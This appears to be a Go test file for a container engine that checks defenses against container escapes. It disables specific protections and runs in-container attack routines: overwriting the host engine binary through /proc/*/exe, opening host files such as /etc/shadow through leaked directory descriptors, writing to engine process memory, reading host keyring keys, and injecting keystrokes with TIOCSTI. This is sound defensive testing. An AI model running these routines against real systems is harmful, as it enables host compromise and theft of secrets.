package escape

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/creack/pty"
	"golang.org/x/sys/unix"
)

// What the engine's own processes bring into a container: their program, descriptors,
// memory, keyring and terminal.
var binaryWays = []way{
	{
		name: "overwrite by exec", build: "self",
		cuts: []cut{{"runtime/self.go", "err == nil && st.Flags&unix.ST_RDONLY != 0 {", "err == nil {"}},
		try: func(s *scene) string {
			return overwritten(s, func(id string) {
				s.run("exec", id, "/proc/self/exe", "init")
				s.run("exec", id, "true")
			})
		},
	}, {
		name: "overwrite by entrypoint", build: "self",
		try: func(s *scene) string {
			image := s.image(script("entry", "#!/proc/self/exe\n"))
			return overwritten(s, func(id string) {
				s.run(append(append([]string{"run", "--rm", "--pid", "container:" + id}, s.flags...), "--entrypoint", "/entry", image)...)
			})
		},
	}, {
		name: "working directory of run", build: "self",
		cuts: []cut{
			{"runtime/init.go", "if err := makeCwd(root, p.Process); err != nil {", "if err := error(nil); err != nil {"},
			{"runtime/steps.go", `if wd, err := unix.Getwd(); err != nil || !strings.HasPrefix(wd, "/") {`, `if wd, err := unix.Getwd(); err != nil && !strings.HasPrefix(wd, "") {`},
		},
		try: func(s *scene) string {
			for n := range 14 {
				r := s.run(s.line("run", "busybox", []string{"--rm", "-w", fmt.Sprintf("/proc/self/fd/%d", n)}, "cwd")...)
				if how := s.refusedOr(r); how != "" {
					return fmt.Sprintf("/proc/self/fd/%d: %s", n, how)
				}
			}
			return ""
		},
	}, {
		name: "working directory of exec", build: "self",
		cuts: []cut{
			{"namespace/join.go", "report-1, 0),", "report-1, 4)," /* CLOSE_RANGE_CLOEXEC */},
			{"namespace/join.go", "files, moved-1, 0)", "files, moved-1, 4)"},
			{"namespace/join.go", "report+1, uintptr(^uint32(0)), 0))", "report+1, uintptr(^uint32(0)), 4))"},
		},
		try: func(s *scene) string {
			id := s.begin(nil, "idle")
			for n := range s.tries(40) {
				n = 3 + n%40 // one is the cgroup that the process is born into, not always the same
				r := s.run("exec", "-w", fmt.Sprintf("/proc/self/fd/%d", n), id, "/attack", "attack", "cwd")
				if how := s.refusedOr(r); how != "" {
					return fmt.Sprintf("/proc/self/fd/%d: %s", n, how)
				}
			}
			return ""
		},
	}, {
		name: "ptrace of exec", build: "paths",
		cuts: []cut{{"namespace/join.go", "unix.SYS_PRCTL, unix.PR_SET_DUMPABLE, 0)", "unix.SYS_PRCTL, unix.PR_SET_DUMPABLE, 1)"}},
		try: func(s *scene) string {
			id := s.begin(nil, "pry")
			// The longer the search for the command, the longer the process is in the
			// container's credentials and not yet what is to be executed.
			path := strings.Repeat("/nowhere/at/all:", 6000) + "/bin"
			for range s.tries(5) {
				s.run("exec", "-e", "PATH="+path, id, "true")
				if out := s.ok("logs", id); strings.Contains(out, "OUT ") {
					return strings.TrimSpace(out[strings.Index(out, "OUT ")+4:])
				}
			}
			return ""
		},
	}, {
		name: "session keyring", build: "self",
		cuts: []cut{{"runtime/steps.go", "unix.RawSyscall(unix.SYS_KEYCTL, unix.KEYCTL_JOIN_SESSION_KEYRING, 0, 0)", ""}},
		needs: func() string {
			if _, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false); err == unix.ENOSYS {
				return "the kernel has no keyrings"
			}
			return ""
		},
		try: func(s *scene) string {
			// The user has a session with a key in it, and starts a container from there.
			self, _ := os.Executable()
			line := s.line("run", "busybox", []string{"--rm", "--security-opt", "seccomp=unconfined"}, "key", "session", s.dir)
			cmd := s.command(line...)
			cmd.Path, cmd.Args = self, append([]string{self, "attack", "session", s.dir, s.binary}, line...)
			return s.verdict(s.finish(cmd))
		},
	}, {
		name: "terminal of the host", build: "self",
		cuts: []cut{
			{"runtime/init.go", "if _, err := unix.Setsid(); err != nil {", "if err := error(nil); err != nil {"},
			{"engine/connect.go", "Sys: &syscall.SysProcAttr{Setsid: true}}", "Sys: &syscall.SysProcAttr{}}"},
		},
		try: func(s *scene) string {
			for _, flags := range [][]string{{"--rm"}, {"--rm", "-i"}, {"--rm", "-t"}} {
				master, slave, err := pty.Open()
				if err != nil {
					s.Fatal(err)
				}
				defer master.Close()
				// On standard output only: what is asked for is the controlling terminal.
				var st unix.Stat_t
				unix.Fstat(int(slave.Fd()), &st)
				cmd := s.command(s.line("run", "busybox", flags, "tty", fmt.Sprint(st.Rdev))...)
				cmd.Stdin = slave
				cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
				r := s.finish(cmd)
				slave.Close()
				if how := s.verdict(r); how != "" {
					return fmt.Sprint(flags, " ", how)
				}
			}
			return ""
		},
	},
}

// refusedOr is verdict, where the engine may refuse to run the attack at all.
func (s *scene) refusedOr(r result) string {
	s.Helper()
	if r.code >= 125 && !strings.Contains(r.out, "OUT ") && !strings.Contains(r.out, "HELD") {
		return ""
	}
	return s.verdict(r)
}

// overwritten lets a container lie in wait for processes that execute the engine's
// program, a copy, while the host makes some, and tells what became of the file.
func overwritten(s *scene, provoke func(id string)) string {
	copied := filepath.Join(s.dir, "mydocker")
	data := s.read(s.binary)
	// No fork meanwhile: a child of another test would have the file open for writing until
	// its execve, and who executes it then gets ETXTBSY (go.dev/issue/22315).
	syscall.ForkLock.RLock()
	err := os.WriteFile(copied, []byte(data), 0o755)
	syscall.ForkLock.RUnlock()
	if err != nil {
		s.Fatal(err)
	}
	h := *s.host
	h.binary, s.host = copied, &h
	id := s.begin(nil, "overwrite")
	for range 12 {
		provoke(id)
	}
	info, err := os.Stat(copied)
	if err != nil {
		s.Fatal(err)
	}
	if info.Mode() != 0o755 || s.read(copied) != data {
		return fmt.Sprintf("the engine's binary has mode %v, another text: %t; %s", info.Mode(), s.read(copied) != data, s.ok("logs", id))
	}
	if logs := s.ok("logs", id); !strings.Contains(logs, "seen:") {
		s.Errorf("it has never seen the program: %s", logs)
	}
	return ""
}

func init() {
	attacks["idle"] = func([]string) string {
		fmt.Println("up")
		time.Sleep(time.Hour)
		return ""
	}
	attacks["overwrite"] = overwrite
	attacks["cwd"] = outsideCwd
	attacks["pry"] = pry
	attacks["session"] = session
	attacks["key"] = readKey
	attacks["tty"] = hostTerminal
}

// overwrite opens the program of each process that executes one which is not of
// the image, and tries to change its file: it writes, which is refused (ETXTBSY) as long as any
// process executes it, the container's monitor too; and changes its mode, which is not.
func overwrite([]string) string {
	own := map[[2]uint64]bool{}
	for _, path := range []string{"/bin/busybox", "/proc/self/exe"} {
		var st unix.Stat_t
		if unix.Stat(path, &st) == nil {
			own[[2]uint64{st.Dev, st.Ino}] = true
		}
	}
	fmt.Println("up")
	var seen sync.Once
	for {
		files, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, path := range files {
			fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st unix.Stat_t
			if unix.Fstat(fd, &st) == nil && !own[[2]uint64{st.Dev, st.Ino}] {
				file, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0)
				if err == nil {
					_, err = file.WriteString("overwritten")
					file.Close()
				}
				chmod := unix.Fchmod(fd, 0o4777)
				if err == nil || chmod == nil {
					return fmt.Sprintf("write: %v; chmod: %v", err, chmod)
				}
				seen.Do(func() { fmt.Println("seen:", err, chmod) })
			}
			unix.Close(fd)
		}
	}
}

// outsideCwd looks whether the working directory is in another file system than the
// container's that has its name: the host's /proc, or a directory of the engine.
func outsideCwd([]string) string {
	at := ""
	for range 12 {
		at += "../"
		var ours, theirs unix.Stat_t
		for _, name := range []string{"sys/kernel/core_pattern", "etc/shadow", "proc/1/environ"} {
			own := "/" + name
			if name == "sys/kernel/core_pattern" {
				own = "/proc/" + name
			}
			if unix.Stat(at+name, &theirs) != nil || unix.Stat(own, &ours) == nil && ours.Dev == theirs.Dev && ours.Ino == theirs.Ino {
				continue
			}
			file, err := os.OpenFile(at+name, os.O_RDWR, 0) // and no more
			if err == nil {
				file.Close()
				return "the host's " + at + name + " is open for writing"
			}
		}
	}
	return ""
}

// pry opens the memory of each process that executes a program which is not of the
// image: one that the engine makes, before its execve.
func pry([]string) string {
	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		return ""
	}
	self := os.Getpid()
	fmt.Println("up")
	for {
		all, _ := os.ReadDir("/proc")
		for _, e := range all {
			var pid int
			if n, _ := fmt.Sscanf(e.Name(), "%d", &pid); n != 1 || pid == self {
				continue
			}
			exe, err := os.Stat("/proc/" + e.Name() + "/exe")
			if err != nil || os.SameFile(exe, own) {
				continue
			}
			if box, err := os.Stat("/bin/busybox"); err == nil && os.SameFile(exe, box) {
				continue
			}
			memory, err := os.OpenFile("/proc/"+e.Name()+"/mem", os.O_RDWR, 0)
			if err == nil {
				memory.Close()
				return "the memory of a process of the engine is open for writing"
			}
		}
	}
}

// session plays the user on the host: joins a new session keyring, puts a key into it, and
// executes the rest of the line.
func session(args []string) string {
	if _, err := unix.KeyctlJoinSessionKeyring("escape"); err != nil {
		return "join: " + err.Error()
	}
	if _, err := unix.AddKey("user", args[0], []byte("the user's"), unix.KEY_SPEC_SESSION_KEYRING); err != nil {
		return "add key: " + err.Error()
	}
	return "execve: " + unix.Exec(args[1], append([]string{args[1]}, args[2:]...), os.Environ()).Error()
}

// readKey looks for a key of the host's.
func readKey(args []string) string {
	ring := map[string]int{"session": unix.KEY_SPEC_SESSION_KEYRING, "user": unix.KEY_SPEC_USER_KEYRING}[args[0]]
	if args[0] == "user" { // what is reached from the session may be read
		unix.KeyctlInt(unix.KEYCTL_LINK, ring, unix.KEY_SPEC_SESSION_KEYRING, 0, 0)
	}
	key, err := unix.KeyctlSearch(ring, "user", args[1], 0)
	if err != nil {
		return held("search: %v", err)
	}
	text := make([]byte, 100)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, key, text, 0)
	if err != nil {
		return held("read: %v", err)
	}
	return fmt.Sprintf("a key of the host's: %q", text[:n])
}

// hostTerminal opens the controlling terminal, and looks whether it is the host's.
func hostTerminal(args []string) string {
	for _, path := range []string{"/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"} {
		fd, err := unix.Open(path, unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		defer unix.Close(fd)
		// The container's terminals have numbers of their own instance of devpts, which
		// may be the same: the session that a terminal controls tells them apart.
		var leader int32
		_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCGSID, uintptr(pointer(&leader)))
		if errno != 0 || leader != 0 { // 0: of a process that this PID namespace does not have
			continue
		}
		typed := byte('x')
		_, _, errno = unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(pointer(&typed)))
		return fmt.Sprintf("%s is the host's terminal (TIOCSTI into it: %v)", path, nonzero(errno))
	}
	return ""
}

func nonzero(errno syscall.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}
